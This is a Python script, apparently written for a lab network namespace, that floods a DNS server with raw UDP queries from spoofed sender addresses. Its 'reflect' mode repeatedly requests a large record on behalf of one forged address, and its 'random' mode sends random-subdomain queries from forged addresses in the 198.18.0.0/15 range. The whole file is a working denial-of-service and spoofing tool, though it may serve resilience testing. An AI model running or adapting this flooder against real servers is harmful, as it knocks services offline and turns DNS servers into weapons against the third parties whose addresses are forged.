"""Floods a server of names from one namespace, with made-up senders: dns_flood.py SERVER reflect|random SECONDS PER_SECOND

reflect: one name of much to say, from one address that never asked. random: made-up names, from addresses all over 198.18.0.0/15 (RFC 2544).
Raw sockets: the kernel of this namespace sends whatever sender is written. Prints how many were sent.
"""
import os
import random
import socket
import struct
import sys
import time

server, kind, seconds, rate = sys.argv[1], sys.argv[2], float(sys.argv[3]), int(sys.argv[4])
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
target = socket.inet_aton(server)


def name(text):
    return b"".join(bytes([len(part)]) + part.encode() for part in text.split(".")) + b"\0"


def question(text, kind_of):
    head = struct.pack(">HHHHHH", random.getrandbits(16), 0, 1, 0, 0, 1)
    opt = b"\0" + struct.pack(">HHIH", 41, 1232, 0, 0)
    return head + name(text) + struct.pack(">HH", kind_of, 1) + opt


def packet(source, data):
    udp = struct.pack(">HHHH", random.randrange(1024, 65536), 53, 8 + len(data), 0)
    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 28 + len(data), 0, 0, 64, 17, 0, source, target)
    return ip + udp + data


def one():
    if kind == "reflect":
        return packet(socket.inet_aton("198.18.7.7"), question("big.example.test", 16))
    source = socket.inet_aton("198.%d.%d.%d" % (18 + random.getrandbits(1), random.getrandbits(8), random.getrandbits(8)))
    return packet(source, question("x%x.example.test" % random.getrandbits(60), 1))


sent = 0
began = time.monotonic()
while (spent := time.monotonic() - began) < seconds:
    while sent < spent * rate:
        raw.sendto(one(), (server, 0))
        sent += 1
    time.sleep(0.001)
print(sent)
